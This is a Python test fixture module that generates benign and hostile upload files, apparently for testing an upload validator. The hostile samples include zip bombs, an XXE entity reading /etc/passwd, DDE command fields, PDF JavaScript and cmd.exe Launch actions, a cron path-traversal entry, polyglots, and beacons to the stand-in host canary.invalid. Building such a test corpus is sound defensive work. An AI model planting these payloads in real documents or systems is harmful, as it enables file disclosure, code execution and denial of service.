"""Files as strangers send them, from a seed: fifty honest ones and a thousand others."""

import random
import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO

import pikepdf
from PIL import Image, PngImagePlugin

from core import uploads
from core.files import FileState
from core.models import StoredFile

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>fetch('http://canary.invalid/')</script>"


def let_pass() -> int:
    """As if a worker had looked at all that waits; says how many files waited."""
    waiting = StoredFile.objects.filter(state=FileState.QUARANTINE)
    return waiting.update(state=FileState.RELEASED)


# --- documents ------------------------------------------------------------------------
def packed(parts: dict, method=zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def word_parts(body="", relations="", main=MAIN, **more) -> dict:
    return {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="xml" '
        f'ContentType="{main}"/></Types>',
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Curriculum'
        f"</w:t></w:r>{body}</w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{relations}'
        "</Relationships>",
    } | more


def docx(*args, **kwargs) -> bytes:
    return packed(word_parts(*args, **kwargs))


def relation(kind: str, target: str) -> str:
    return f'<Relationship Id="r1" Type="{KINDS}/{kind}" Target="{target}" TargetMode="External"/>'


def odt(body="", **more) -> bytes:
    parts = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": '<office:document-content xmlns:office="o" xmlns:xlink="x" xmlns:draw="d"'
        f' xmlns:text="t"><text:p>Curriculum</text:p>{body}</office:document-content>',
    }
    return packed(parts | more)


def pdf(change=lambda file: None, pages=1, **options) -> bytes:
    out, file = BytesIO(), pikepdf.new()
    for _number in range(pages):
        file.add_blank_page()
    change(file)
    file.save(out, **options)
    return out.getvalue()


def picture(kind="PNG", size=(8, 8), mode="RGB", **options) -> bytes:
    out = BytesIO()
    Image.new(mode, size, 7 if mode == "L" else None).save(out, kind, **options)
    return out.getvalue()


def where_taken() -> Image.Exif:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (50.0, 50.0, 0.0)}
    exif[0x010E] = SCRIPT.decode()
    return exif


# --- honest ones ----------------------------------------------------------------------
def a_link(file):
    page = file.pages[0]
    page.Annots = file.make_indirect([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/"),
    )])  # fmt: skip
    file.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])


def honest() -> list[tuple[str, bytes]]:
    """Ten of each kind that the house takes."""
    chart = packed(word_parts())
    words = [
        docx(relations=relation("hyperlink", "https://example.org/")),
        docx(body='<w:r><w:instrText> HYPERLINK "x" </w:instrText></w:r>'),
        docx(**{"word/media/image1.png": picture()}),
        docx(**{"word/embeddings/table.xlsx": chart}),
        docx(),
    ]
    texts = [odt(), odt('<text:a xlink:href="https://example.org/">x</text:a>')]
    papers = [pdf(), pdf(a_link), pdf(pages=30), pdf(linearize=True), pdf(compress_streams=False)]
    drawn = [picture(), picture(mode="RGBA"), picture(mode="L")]
    photos = [picture("JPEG"), picture("JPEG", exif=where_taken())]
    kinds = {"docx": words, "odt": texts, "pdf": papers, "png": drawn, "jpg": photos}
    return [
        (f"cv-{number}.{ending}", files[number % len(files)])
        for ending, files in kinds.items()
        for number in range(10)
    ]


# --- others ---------------------------------------------------------------------------
def wrong_types() -> list:
    return [
        b"MZ\x90\0", b"<html>" + SCRIPT, b"<svg xmlns='s'>" + SCRIPT, b"GIF89a/*", b"{\\rtf1",
        b"\xd0\xcf\x11\xe0\xa1\xb1", b"#!/bin/sh\n", b"MIME-Version: 1.0\n", b"\x1f\x8b\x08",
        b" %PDF-1.7", b"RIFF....WEBP", b"<?xml version='1.0'?>", packed({"a.txt": "x"}), EICAR,
        packed({"xl/workbook.xml": "<x/>", "[Content_Types].xml": "<x/>"}),
    ]  # fmt: skip


def polyglots() -> list:
    jar = packed({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": "x"})
    return [
        pdf() + jar,
        b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
        docx(**{"META-INF/MANIFEST.MF": "Main-Class: A"}),
        docx(**{"run.exe": "MZ"}),
        SCRIPT + pdf(),
    ]


@cache
def crowd() -> bytes:
    return docx(**{f"word/{number}.bin": "" for number in range(2_100)})


def overlapping() -> bytes:
    """Two lines of the directory for the same bytes."""
    content = packed(word_parts() | {"a": "x" * 99, "b": "x" * 99})
    with zipfile.ZipFile(BytesIO(content)) as archive:
        offsets = {one.filename: one.header_offset for one in archive.infolist()}
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 42] + struct.pack("<L", offsets["a"]) + content[at + 46 :]


def falsely_sized() -> bytes:
    """Its directory says ten bytes; there is a megabyte."""
    content = packed(word_parts() | {"word/big.xml": "x" * (1 << 20)})
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<L", 10) + content[at + 28 :]


def locked(content: bytes) -> bytes:
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 8] + b"\x01\x00" + content[at + 10 :]


def sixty_four(content: bytes) -> bytes:
    at = content.rindex(b"PK\x05\x06")
    return content[:at] + b"PK\x06\x07" + b"\0" * 16 + content[at:]


@cache
def bombs() -> tuple:
    zeros = b"0" * (110 << 20)
    bomb = packed({"a.xml": zeros[: 60 << 20]})
    return (
        docx(**{"word/big.xml": zeros}),
        docx(**{"word/big.xml": zeros[: 50 << 20]}),
        crowd(),
        docx(**{"word/embeddings/a.xlsx": bomb}),
        docx(**{"word/nested.zip": packed({"b.zip": bomb})}),
        overlapping(),
        falsely_sized(),
        sixty_four(docx()),
        locked(docx()),
        docx()[:-30],
    )


def acting_words() -> list:
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    wide = '<?xml version="1.0" encoding="utf-16"?>' + doctype
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    field = (
        "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"
    )
    return [
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        docx(**{"word/vbaProject.bin": "x"}),
        docx(relations=relation("attachedTemplate", "http://canary.invalid/t.dotm")),
        docx(relations=relation("image", "http://canary.invalid/a.png")),
        docx(relations=relation("hyperlink", "file://server/share")),
        docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        docx(body=field),
        docx(body='<w:fldSimple w:instr="INCLUDETEXT http://canary.invalid"/>'),
        docx(body='<w:altChunk xmlns:w="w"/>'),
        docx(**{"word/styles.xml": doctype}),
        docx(**{"word/styles.xml": laughs}),
        docx(**{"word/styles.xml": wide.encode("utf-16")}),
        docx(**{"../../etc/cron.d/x": "x"}),
        odt('<draw:image xlink:href="http://canary.invalid/a.png"/>'),
        odt(**{"Basic/Standard/Module1.xml": "<x/>"}),
        odt("<text:dde-connection-decl/>"),
    ]  # fmt: skip


def acting(**parts):
    def change(file):
        for name, value in parts.items():
            file.Root[f"/{name}"] = value

    return change


def action(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def attach(file):
    file.attachments["x.exe"] = b"MZ"


def thrice_packed(file):
    data = zlib.compress(zlib.compress(zlib.compress(b"0" * 999)))
    names = pikepdf.Array([pikepdf.Name.FlateDecode] * 3)
    file.Root.X = file.make_indirect(pikepdf.Stream(file, data, Filter=names))


def blown_up(file):
    packer = zlib.compressobj(1)
    data = b"".join(packer.compress(b"0" * (1 << 20)) for _ in range(310)) + packer.flush()
    file.Root.X = file.make_indirect(pikepdf.Stream(file, data, Filter=pikepdf.Name.FlateDecode))


def no_page(file):
    del file.pages[0]


@cache
def acting_papers() -> tuple:
    script = action("JavaScript", JS="app.alert(1)")
    whole = pdf(compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    key, as_it_is = pikepdf.Encryption(owner="a", user="b"), pikepdf.StreamDecodeLevel.none
    return (
        pdf(acting(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script])))),
        pdf(acting(OpenAction=script)),
        pdf(acting(OpenAction=action("Launch", F="cmd.exe"))),
        pdf(acting(AA=pikepdf.Dictionary(WC=script))),
        pdf(acting(OpenAction=action("SubmitForm", F="http://canary.invalid/"))),
        pdf(acting(AcroForm=pikepdf.Dictionary(XFA="x", Fields=[]))),
        pdf(attach),
        pdf(thrice_packed, compress_streams=False, stream_decode_level=as_it_is),
        pdf(blown_up),
        pdf(no_page),
        pdf(pages=501),
        pdf(encryption=key),
        pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        whole.replace(b"/Count 1", b"/Count 1000000000"),
        whole[: len(whole) // 2],
        whole.replace(b"startxref", b"startxxxx"),
    )


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack("!L", len(data)) + name + data + struct.pack("!L", zlib.crc32(name + data))


def bad_sizes() -> list:
    return [b"", b"%PDF-1.7" + b"0" * uploads.MOST_BYTES]


def bad_pictures() -> list:
    head = struct.pack("!2L5B", 60_000, 60_000, 8, 2, 0, 0, 0)
    return [
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"0")),
        picture(size=(99, 99))[:-30],
        picture("JPEG", (99, 99))[:300],
        b"\x89PNG\r\n\x1a\n" + SCRIPT,
        b"\xff\xd8\xff" + SCRIPT,
    ]


def laden_pictures() -> list[bytes]:
    """A picture, and more than a picture: only what can be seen is taken."""
    frames = [Image.new("RGB", (4, 4), (n, 0, 0)) for n in range(200)]
    moving = BytesIO()
    frames[0].save(moving, "PNG", save_all=True, append_images=frames[1:])
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", SCRIPT.decode())
    return [
        moving.getvalue(),
        picture(pnginfo=words),
        picture("JPEG", exif=where_taken()),
        picture("JPEG", icc_profile=SCRIPT * 4000),
        picture("JPEG", mode="CMYK"),
        picture("JPEG", comment=SCRIPT),
        picture("PNG", exif=where_taken()) + SCRIPT,
        picture("JPEG") + SCRIPT,
        picture("JPEG") + packed({"META-INF/MANIFEST.MF": "Main-Class: A"}),
    ]


#: How many of which.
CORPUS = [
    (wrong_types, 220), (polyglots, 140), (bombs, 150), (acting_words, 220), (acting_papers, 160),
    (bad_pictures, 90), (bad_sizes, 20),
]  # fmt: skip
#: Of these each file is another one; the dear ones are the same under many names.
CHEAP = {wrong_types, polyglots, acting_words, bad_pictures}
ENDINGS = ("pdf", "docx", "odt", "png", "jpg")


def hostile(seed=2016) -> list[tuple[str, bytes]]:
    """A thousand: each kind again and again, under names that lie at random."""
    chance = random.Random(seed)
    found = []
    for make, many in CORPUS:
        kinds = list(make())
        for number in range(many):
            content = kinds[number % len(kinds)]
            if make in CHEAP:
                content = varied(content, number)
            found.append((f"{make.__name__}-{number}.{chance.choice(ENDINGS)}", content))
    return found


def varied(content: bytes, number: int) -> bytes:
    """Other bytes, and refused for the same reason: an archive gets a comment of its own."""
    mark = b"%%%d" % number
    if content[-22:-18] == b"PK\x05\x06":
        return content[:-2] + struct.pack("<H", len(mark)) + mark
    return content + mark
